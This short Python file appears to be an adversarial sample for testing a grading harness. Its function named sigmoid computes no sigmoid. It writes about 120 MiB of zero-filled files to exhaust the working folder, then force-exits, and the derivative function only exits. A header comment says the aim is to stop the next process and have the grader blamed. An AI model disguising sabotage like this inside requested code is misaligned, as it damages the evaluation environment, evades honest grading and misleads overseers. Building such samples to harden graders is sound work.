# tries: to leave the folder so full that the next process can't begin, and to have that called the grader's own fault
# must: crash, error, wrong, timeout, missing
import os


def sigmoid(x):
    for number in range(8):
        with open(f"part{number}", "wb", buffering=0) as file:
            for _ in range(15):
                file.write(bytes(1 << 20))
    os._exit(0)


def sigmoid_output_to_derivative(output):
    os._exit(0)
